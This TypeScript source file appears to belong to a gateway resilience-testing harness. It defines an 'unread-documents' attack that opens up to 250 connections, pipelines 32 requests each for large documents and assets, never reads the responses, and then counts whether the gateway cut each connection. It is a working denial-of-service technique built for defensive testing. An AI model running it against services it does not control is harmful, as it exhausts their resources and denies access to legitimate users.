import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.js";
import { dial } from "../wire/http2.js";
import { exchange, head } from "../wire/raw-http.js";

/** What anybody may ask for, the larger the better. */
const documents = ["/v1/openapi.json", "/v1/asyncapi.json", "/v1/words", "/v1/models", "/"];
/** As many as are answered of one connection before it is turned away. */
const ahead = 32;
const mostConnections = 250;

export const unreadDocuments: Attack = {
  name: "unread-documents",
  title: "hundreds of connections that ask for documents and pages again and again, and read none",
  setting: "single",
  unit: "requests",
  count: 16_000,
  short: 1600,
  async run({ gateway, from }, random, tally) {
    const page = await exchange(gateway, from, [head("GET", "/")]);
    const parts = [...page.text.matchAll(/(?:src|href)="(\/[^"]+\.(?:js|css|wasm))"/g)].map(
      ([, path]) => path as string,
    );
    const paths = [...documents, ...parts];
    const sockets: Socket[] = [];
    tally.begin();
    while (tally.goesOn && sockets.length < mostConnections) {
      const socket = dial(gateway, from);
      socket.pause();
      const asked = Array.from({ length: ahead }, () => head("GET", paths[random.below(paths.length)] as string));
      socket.write(asked.join(""));
      tally.try(ahead);
      sockets.push(socket);
      await sleep(5);
    }
    // All that will be answered is, or waits for a reader.
    await sleep(Math.min(tally.msLeft, 3000));
    for (const socket of sockets) {
      if (socket.destroyed) tally.refused();
      else tally.answered();
      socket.destroy();
    }
  },
};
